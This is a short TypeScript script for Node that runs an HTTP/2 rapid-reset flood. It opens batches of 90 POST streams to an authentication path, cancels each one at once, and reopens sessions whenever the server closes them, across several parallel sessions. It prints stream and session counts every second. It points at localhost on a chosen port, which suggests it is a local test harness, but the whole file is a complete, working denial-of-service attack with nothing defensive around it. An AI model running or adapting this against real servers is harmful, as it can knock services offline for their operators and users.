import { once } from 'node:events'
import { connect, constants } from 'node:http2'
import { setTimeout as passed } from 'node:timers/promises'

/**
 * Opens HTTP/2 streams and cancels them at once, over sessions that it opens again when the service
 * closes them: node reset_streams.ts PORT SESSIONS. Prints how many streams were begun and how many
 * sessions there were, a line a second.
 */
const [port = 0, sessions = 1] = process.argv.slice(2).map(Number)
const atOnce = 90
const retryMs = 20
let [streams, opened] = [0, 0]

async function attack(): Promise<void> {
  for (;;) {
    const session = connect(`https://127.0.0.1:${port}`, {
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    })
    session.on('error', () => {})
    opened++
    await Promise.race([once(session, 'remoteSettings'), once(session, 'close')]).catch(() => {})
    while (!session.destroyed && !session.closed) {
      const begun = Array.from({ length: atOnce }, () =>
        session.request({
          ':method': 'POST',
          ':path': '/auth/v2/auth',
          'content-type': 'application/x-www-form-urlencoded',
        }),
      )
      for (const stream of begun) stream.on('error', () => {})
      // the headers have to leave first
      await passed(1)
      for (const stream of begun) stream.close(constants.NGHTTP2_CANCEL)
      streams += begun.length
      await passed(1)
    }
    session.destroy()
    await passed(retryMs)
  }
}

setInterval(() => process.stdout.write(`streams ${streams} sessions ${opened}\n`), 1000)
await Promise.all(Array.from({ length: sessions }, attack))
